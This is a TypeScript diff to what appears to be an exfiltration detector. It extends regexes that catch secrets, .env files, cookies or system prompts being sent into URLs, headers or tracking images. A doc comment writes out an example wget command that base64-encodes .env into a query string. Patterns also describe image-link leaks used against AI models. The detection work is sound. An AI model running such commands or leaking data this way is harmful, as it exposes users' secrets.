@@ -29,6 +29,8 @@ const SHELL_FORMS: readonly RegExp[] = globally([
 ]);
 
 const DATA_NOUN = String.raw`(?:secrets?|credentials?|creds|tokens?|api[ _-]?keys?|keys|passwords?|private[ _-]?keys?|ssh[ _-]?keys?|\.env(?:\s+files?)?|env(?:ironment)?(?:\s+(?:variables?|vars))?|env\s+vars|~/\.ssh|id_rsa|\.aws|cookies|session(?:\s+tokens?)?|source\s+code|(?:the\s+)?(?:whole\s+|entire\s+)?(?:repo(?:sitory)?|codebase)|conversation|chat(?:\s+history)?|transcript|system\s+prompt|memor(?:y|ies)|(?:the\s+)?contents?\s+of\s+\S+|files?|keychain|wallet)`;
+/** What a link's address must not carry: the sending nouns less files and memories, which pages link to. */
+const LINKED_DATA = String.raw`(?<![\w-])(?:secrets?|credentials?|creds|tokens?|api[ _-]?keys?|passwords?|private[ _-]?keys?|ssh[ _-]?keys?|\.env|env(?:ironment)?(?:\s+variables?)?|cookies|session(?:\s+tokens?)?|conversation|chat(?:\s+history)?|transcript|system\s+prompt|(?:the\s+)?contents?\s+of\s+\S+)(?![\w-])`;
 const DESTINATION = String.raw`(?:${URL}|[\w.+-]+@[\w-]+(?:\.[\w-]+)+|(?:\d{1,3}\.){3}\d{1,3}|[\w-]+(?:\.[\w-]+)*\.(?:com|net|org|io|xyz|ru|cn|top|site|dev|app|sh|me|co|info|biz|example|tk|ml|cc|pw)\b|(?:a|the|this|my|our|an?\s+external|a\s+remote)\s+(?:webhook|endpoint|server|pastebin|gist|discord|telegram|bucket|host|address|url))`;
 
 const IN_WORDS: readonly RegExp[] = globally([
@@ -36,6 +38,8 @@ const IN_WORDS: readonly RegExp[] = globally([
 ]);
 
 const DOWNLOADS = new RegExp(`(?<![\\w-])${DOWNLOADER}`, 'g');
+/** A command's output put into the URL or a header: `wget "https://x/?$(cat .env | base64)"`, `-H "X: $(env)"`. */
+const COMMAND_IN_REQUEST = /(?:https?|ftp):\/\/[^\s"'`]*\$\(|(?:^|\s)(?:-h|--header)\s*["'][^"'\n]*(?:\$\(|`)/;
 const SECRET_IN_URL = new RegExp(`${URL.slice(0, -1)}*?${SECRET_VAR}`);
 
 export function sendsData(text: string): boolean {
@@ -43,7 +47,7 @@ export function sendsData(text: string): boolean {
     const at = m.index ?? 0;
     const command = text.slice(at, at + 400).split(/\n|&&|;\s|\|\|/)[0] ?? '';
     if (onlyLoopback(command)) continue;
-    const uploads = UPLOAD_FLAG.test(command) || SECRET_IN_URL.test(command);
+    const uploads = UPLOAD_FLAG.test(command) || SECRET_IN_URL.test(command) || COMMAND_IN_REQUEST.test(command);
     if (uploads && !isProhibited(text, at)) return true;
   }
   for (const pattern of SHELL_FORMS) {
@@ -82,6 +86,6 @@ const ANY_PLACEHOLDER = new RegExp(PLACEHOLDER);
 const ANY_SENSITIVE_WORD = new RegExp(SENSITIVE_WORD);
 const DATA_VALUE = new RegExp(`[=&?](?:${PLACEHOLDER})|=[^&]*(?:${SENSITIVE_WORD})`);
 const DATA_IN_WORDS: readonly RegExp[] = globally([
-  new RegExp(`(?<![\\w-])(?:append|add|include|put|encode|embed|attach|insert|place)(?![\\w-])[^.\\n]{0,60}?${DATA_NOUN}[^.\\n]{0,40}?(?:to|in|into|as)\\s+(?:the\\s+|a\\s+|this\\s+|an?\\s+image\\s+)?(?:url|link|query(?:\\s+string)?|image(?:\\s+(?:url|link|src))?|src|parameter|param)\\b`),
+  new RegExp(`(?<![\\w-])(?:append|add|include|put|encode|embed|attach|insert)(?![\\w-])[^.\\n]{0,60}?${LINKED_DATA}[^.\\n]{0,40}?(?:to|in|into|as)\\s+(?:the\\s+|a\\s+|this\\s+|an?\\s+image\\s+)?(?:url|link|query(?:\\s+string)?|image(?:\\s+(?:url|link|src))?|src|parameter|param)\\b`),
   new RegExp(`(?<![\\w-])(?:render|display|show|include|embed|output|end\\s+(?:each|every|your)\\s+\\w+\\s+with)\\s+(?:an?\\s+|the\\s+|this\\s+)?(?:markdown\\s+|tracking\\s+|invisible\\s+|hidden\\s+|1x1\\s+)?(?:image|pixel|img)[^.\\n]{0,60}?https?://[^\\s?)]+\\?`),
 ]);
